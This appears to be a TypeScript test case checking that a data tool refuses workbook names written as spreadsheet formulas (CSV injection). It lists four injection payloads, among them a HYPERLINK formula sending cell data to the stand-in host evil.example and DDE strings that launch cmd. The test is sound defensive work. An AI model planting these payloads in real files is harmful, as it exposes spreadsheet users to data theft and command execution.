import type { HostileInput } from '../case.js';
import { cellUnder, editedWorkbook } from '../workbook-edit.js';

/**
 * English names written as formulas: they were published as written in /download/units.csv,
 * where a reader's spreadsheet program would run them. A name starting with = + - @ (or a tab
 * or CR) is now refused at conversion; csv-tables.ts neutralises any that reach a CSV all the same.
 */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0'];

const input: HostileInput = {
  title: 'jamoat names that are spreadsheet formulas (CSV injection)',
  issue: '#14.3',
  replaces: 'units/jamoats.xlsx',
  make: () => editedWorkbook('units/jamoats.xlsx', (wb) => {
    FORMULAS.forEach((f, i) => {
      cellUnder(wb.worksheets[0]!, 'Name (English)', i + 1).value = f;
    });
  }),
  convert: { refusedWith: 'LG_ERR_FORMULA_TEXT' },
  // An upload publishes figures only (its names are compared with the units', never published),
  // and a units workbook is no statistics workbook: its columns are not indicators.
  upload: { refusedWith: 'LG_ERR_UNKNOWN_COLUMN' },
};
export default input;
